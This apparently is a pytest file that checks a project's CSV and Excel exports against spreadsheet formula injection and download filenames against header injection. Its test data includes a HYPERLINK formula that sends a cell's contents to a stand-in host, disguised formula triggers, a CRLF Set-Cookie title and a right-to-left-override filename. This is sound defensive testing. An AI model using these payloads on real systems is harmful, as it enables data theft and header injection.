"""Whatever leaves as a table: nothing in it runs in a spreadsheet, no name breaks a header."""

import ast
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tongban.kernel.core.cells import harmless, plain
from tongban.kernel.core.tables import RowError
from tongban.kernel.exchange.intake.mending import errors_file
from tongban.services.duties.files import to_mend
from tongban.ui.export import Column, as_csv, as_xlsx, file_of
from tongban.ui.papers.word_charts import _book

SRC = Path(__file__).resolve().parents[2] / "src" / "tongban"
RUNS = '=HYPERLINK("http://192.0.2.1/?"&A1)'
FORMS = [
    RUNS,
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\u3000=1",
    "\u200b=1",
    "＝1+1",
    "＠x",
    "'=1",
    "－1",
]
# whoever writes a table, and what keeps it harmless there
WRITERS = {
    "ui/export.py", "ui/papers/word_charts.py", "kernel/exchange/returns.py", "kernel/exchange/intake/mending.py",
    "kernel/places/gazetteer/files.py", "services/duties/files.py",
}  # fmt: skip
DEMO = {"project/demo/ledgers/year.py", "project/demo/listing.py"}  # lists that the demo sends to itself


def cells_of(book):
    return [
        cell
        for sheet in load_workbook(io.BytesIO(book))
        for row in sheet
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("text", FORMS)
def test_a_cell_that_would_run_is_text_and_can_be_read_back(text):
    assert harmless(text) == f"'{text}"
    assert plain(harmless(text)) == text


@pytest.mark.parametrize("text", ["王芳", "1-2", "a=b", "13800000000", "", "O'Neill", "'quoted'"])
def test_other_text_stays(text):
    assert (harmless(text), plain(text)) == (text, text)


@pytest.mark.parametrize("text", FORMS)
def test_a_list_of_a_page_runs_nothing(text):
    columns = [Column(text, lambda row: row)]
    told = "".join(as_csv([text], columns))
    assert f"'{text}"[:3] in told
    for cell in cells_of(as_xlsx([text], columns, text)):
        assert cell.data_type != "f"
        assert str(cell.value).startswith("'")


def test_a_list_to_be_mended_runs_nothing_of_its_headings_either():
    for cell in cells_of(errors_file([RUNS, "x"], [(2, [RUNS, "y"], RUNS)])):
        assert cell.data_type in {"s", "n"}
    book = to_mend([(2, {RUNS: RUNS, "x": RUNS})], [RowError(2, RUNS, "no")])
    assert {cell.data_type for cell in cells_of(book)} == {"s"}


def test_the_numbers_behind_a_chart_run_nothing():
    assert "f" not in {cell.data_type for cell in cells_of(_book(RUNS, [RUNS, "\t=1"], [1, 2]))}


def test_there_is_no_other_writer_of_tables():
    """A new one must be harmless too: it is added here with a test."""
    found = set()
    for file in SRC.rglob("*.py"):
        if "tests" in file.parts:
            continue
        calls = [n.func for n in ast.walk(ast.parse(file.read_text())) if isinstance(n, ast.Call)]
        named = {getattr(f, "id", "") or getattr(f, "attr", "") for f in calls}
        if named & {"Workbook", "DictWriter"} or any(ast.unparse(f) == "csv.writer" for f in calls):
            found.add(file.relative_to(SRC).as_posix())
    assert found == WRITERS | DEMO


@pytest.mark.parametrize(
    "title", ["a\r\nSet-Cookie: x=1", 'a"; filename="b.html', "表格", "a/../b", "\u202egpj.exe"]
)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_name_of_a_file_cannot_break_its_header(title, kind):
    said = file_of([], [Column("x", str)], title, kind).headers["Content-Disposition"]
    assert said.startswith("attachment; filename*=UTF-8''")
    assert set(said.partition("''")[2]) & set("\r\n\"'; /<>") <= {"/"}


def test_a_workbook_as_the_library_writes_it_would_run():
    """What the tests above would see if nothing were kept harmless."""
    book, out = Workbook(), io.BytesIO()
    book.active.append([RUNS])
    book.save(out)
    assert [cell.data_type for cell in cells_of(out.getvalue())] == ["f"]
